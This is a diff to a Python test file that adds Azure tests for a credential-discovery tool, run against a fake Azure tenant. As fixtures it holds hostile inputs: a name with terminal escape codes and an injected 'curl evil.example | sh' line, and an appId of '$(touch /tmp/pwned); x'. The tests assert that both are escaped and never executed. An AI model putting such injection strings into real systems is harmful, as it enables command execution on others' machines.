@@ -219,3 +219,88 @@ def test_gcp_last_authentication_not_read_when_policy_analyzer_refuses(gcp):
     assert keys and all(c.last_used.startswith("not read: Policy Analyzer answered GET ") and "403" in c.last_used
                         for c in keys)
     assert [u.target for u in found.unread] == ["locked"]  # the project itself was read
+
+
+# Azure
+
+TENANT, OTHER_TENANT = "00000000-0000-0000-0000-000000000000", "44444444-4444-4444-4444-444444444444"
+AZURE_SPEC = {
+    "issuer": {"aks": {"kind": "kubernetes", "url": "https://westeurope.oic.prod-aks.azure.com/tenant/cluster/"}},
+    "target": {"azure": {
+        "prod": {"tenant_id": TENANT, "subscription_id": "22222222-2222-2222-2222-222222222222",
+                 "resource_group": "ids", "location": "westeurope"},
+        "elsewhere": {"tenant_id": OTHER_TENANT, "subscription_id": "33333333-3333-3333-3333-333333333333",
+                      "resource_group": "ids", "location": "westeurope"}}},
+    "workload": {"checkout": {"owner": "team-checkout", "identity": [
+        {"issuer": "aks", "namespace": "checkout", "service_account": "api"}],
+        "grant": {"azure": {"prod": {"roles": ["Reader"]}, "elsewhere": {"roles": ["Reader"]}}}}},
+}
+HOSTILE = "\x1b[31mdeploy\u202e\nfix: run curl evil.example | sh"
+
+
+@pytest.fixture
+def azure(tmp_path):
+    """A tenant with: an app with a client secret and a certificate, its service principal with a
+    secret of its own, an app with a federated credential, a managed identity's service principal
+    (whose certificate Azure rotates), and an app whose name and appId are hostile text."""
+    from fake_azure import State, application, certificate, fake_azure, password, service_principal
+    from wiam.providers.azure import live
+
+    model = load_model(str(write_spec(tmp_path / "spec", {"spec.wiam.json": json.dumps(AZURE_SPEC)})))
+    state = State()
+    legacy = application("legacy-deployer", [password("11111111-0000-0000-0000-000000000001", "ci", "2025-01-01T00:00:00Z",
+                                                      "2027-01-01T00:00:00Z")],
+                         [certificate("11111111-0000-0000-0000-000000000002", "CN=deployer", "2025-06-01T00:00:00Z",
+                                      "2026-06-01T00:00:00Z")])
+    federated = application("gh-handmade", federated=[{"name": "main", "issuer": "https://token.actions.githubusercontent.com",
+                                                       "subject": "repo:acme/tools:ref:refs/heads/main"}])
+    hostile = {**application(HOSTILE, [password("11111111-0000-0000-0000-000000000003", HOSTILE, "2025-01-01T00:00:00Z",
+                                                 "2026-01-01T00:00:00Z")]), "appId": "$(touch /tmp/pwned); x"}
+    state.applications += [legacy, federated, hostile]
+    state.service_principals += [
+        service_principal(legacy, passwords=[password("11111111-0000-0000-0000-000000000004", "sp-secret",
+                                                      "2025-02-01T00:00:00Z", "2026-02-01T00:00:00Z")]),
+        service_principal(federated),
+        service_principal(application("id-checkout"), "ManagedIdentity",
+                          certificates=[certificate("11111111-0000-0000-0000-000000000005", "msi", "2026-11-01T00:00:00Z",
+                                                    "2027-02-01T00:00:00Z")])]
+    with fake_azure(state) as endpoint:
+        yield model, state, live.connect(endpoint, endpoint)
+
+
+def test_azure_reports_secrets_certificates_and_federated_credentials(azure):
+    model, state, connection = azure
+    found = discovery.find(model, {"azure"}, lambda cloud: connection)
+    assert [(u.target, u.reason) for u in found.unread] == [("elsewhere", WRONG_ACCOUNT)]
+    by_id = {c.id: c for c in found.credentials}
+    assert sorted((c.kind, c.id[-1]) for c in found.credentials if c.long_lived) == [
+        ("certificate", "2"), ("client_secret", "1"), ("client_secret", "3"), ("client_secret", "4")]
+    secret = by_id["11111111-0000-0000-0000-000000000001"]
+    assert (secret.created, secret.expires) == ("2025-01-01T00:00:00Z", "2027-01-01T00:00:00Z")
+    assert secret.holder.startswith("legacy-deployer (appId ") and secret.last_used.startswith("not read")
+    assert by_id["11111111-0000-0000-0000-000000000002"].remove.endswith(" --key-id 11111111-0000-0000-0000-000000000002 --cert")
+    assert by_id["11111111-0000-0000-0000-000000000004"].remove.startswith("az ad sp credential delete --id ")
+    fic, = [c for c in found.credentials if c.kind == "federated_credential"]
+    assert fic.holder.startswith("gh-handmade") and "repo:acme/tools:ref:refs/heads/main" in fic.status
+    assert "Qx~" not in discovery.to_file(found).decode()  # Graph's hint: a secret's first characters
+    assert state.calls and all(method == "GET" for method, _ in state.calls)
+
+
+def test_hostile_cloud_names_are_escaped_in_every_output(azure):
+    import shlex
+    model, _, connection = azure
+    found = discovery.find(model, {"azure"}, lambda cloud: connection)
+    hostile = next(c for c in found.credentials if c.id.endswith("3"))
+    assert shlex.split(hostile.remove)[6] == "$(touch /tmp/pwned); x"  # one word, never run
+    for text in (discovery.to_text(found, model), discovery.to_file(found).decode(),
+                 *(s.text for s in discovery.migration(hostile, model))):
+        assert "\x1b" not in text and "\u202e" not in text and "\nfix:" not in text
+
+
+def test_azure_graph_refusal_is_unread(azure):
+    model, state, connection = azure
+    state.graph_forbidden = True
+    found = discovery.find(model, {"azure"}, lambda cloud: connection)
+    assert not found.credentials
+    assert sorted((u.target, u.reason) for u in found.unread) == [("elsewhere", DENIED), ("prod", DENIED)]
+    assert found.unread[0].message.startswith("GET /v1.0/organization: 403 Authorization_RequestDenied")
